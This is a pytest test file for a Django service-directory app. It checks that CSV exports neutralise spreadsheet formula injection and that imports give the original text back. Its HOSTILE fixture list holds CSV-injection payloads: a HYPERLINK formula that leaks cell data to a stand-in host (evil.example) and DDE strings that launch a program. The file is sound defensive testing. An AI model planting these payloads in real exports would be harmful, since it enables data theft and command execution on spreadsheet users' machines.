"""Exported CSV cannot run formulas in the reader's spreadsheet, and imports give the text back."""

import csv
import io

import pytest
from django.core.management import call_command

from services import coordination, spreadsheet
from services.csvcell import FORMULA_STARTS, neutralise, restore
from services.demo import ensure_coordinator
from services.hsds.importer import import_path
from services.models import ErrorReport, Organisation, Service

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk her")',
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "+47 22 22 22 22",
    "-2+3+cmd|' /C calc'!A0",
    "-10",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=allerede merket",
    "'vanlig apostrof",
    "Vanlig tekst = trygg",
]
TEXT_FIELDS = ["name", "description_nb", "eligibility_nb", "how_it_works_nb", "hours_note_nb"]


def runs_as_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("text", [*HOSTILE, " =1+2", "   @x", "\t=1+2", "\r=1+2", "\t", "-"])
def test_no_neutralised_cell_starts_like_a_formula_and_restore_gives_the_text_back(text):
    cell = neutralise(text)
    assert not runs_as_formula(cell)
    assert restore(cell) == text


@pytest.mark.parametrize("text", ["Krisesenter", "22 22 22 22", "", "a=b", "x+y"])
def test_harmless_cells_are_written_as_they_are(text):
    assert neutralise(text) == text


def _hostile_listing(slug: str) -> dict:
    values = {field: HOSTILE[i % len(HOSTILE)] for i, field in enumerate(TEXT_FIELDS)}
    Service.objects.filter(slug=slug).update(**values)
    return values


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@pytest.mark.parametrize("offset", range(len(HOSTILE)))
def test_hostile_texts_survive_a_round_trip_through_the_spreadsheet_export_and_import(offset):
    user = ensure_coordinator("k-oslo", "pw", first_name="O", municipalities=["0301"])
    values = {field: HOSTILE[(offset + i) % len(HOSTILE)] for i, field in enumerate(TEXT_FIELDS)}
    Service.objects.filter(slug="jurk").update(**values)
    exported = spreadsheet.export_csv(coordination.services_for(user))
    assert not [c for c in _cells(exported) if runs_as_formula(c)]

    Service.objects.filter(slug="jurk").update(**dict.fromkeys(TEXT_FIELDS, "overskrevet"))
    report = spreadsheet.validate(exported, user=user)
    assert not report.has_errors, [r.errors for r in report.rows if r.errors]
    spreadsheet.apply(report, user=user)
    jurk = Service.objects.get(slug="jurk")
    assert {field: getattr(jurk, field) for field in TEXT_FIELDS} == values


def test_hostile_texts_survive_a_round_trip_through_the_hsds_csv_export_and_import(tmp_path):
    values = _hostile_listing("jurk")
    uuid = Service.objects.get(slug="jurk").uuid
    call_command("export_hsds", str(tmp_path), verbosity=0)
    for path in tmp_path.glob("*.csv"):
        formulas = [c for c in _cells(path.read_text(encoding="utf-8")) if runs_as_formula(c)]
        assert formulas == [], path.name

    ErrorReport.objects.all().delete()
    Service.objects.all().delete()
    Organisation.objects.all().delete()
    report = import_path(tmp_path / "services.csv")
    assert report.problems == []
    imported = Service.objects.get(uuid=uuid)
    assert imported.name == values["name"]
    assert imported.description_nb == values["description_nb"]
    assert imported.how_it_works_nb == values["how_it_works_nb"]
    assert imported.eligibility_nb == values["eligibility_nb"]
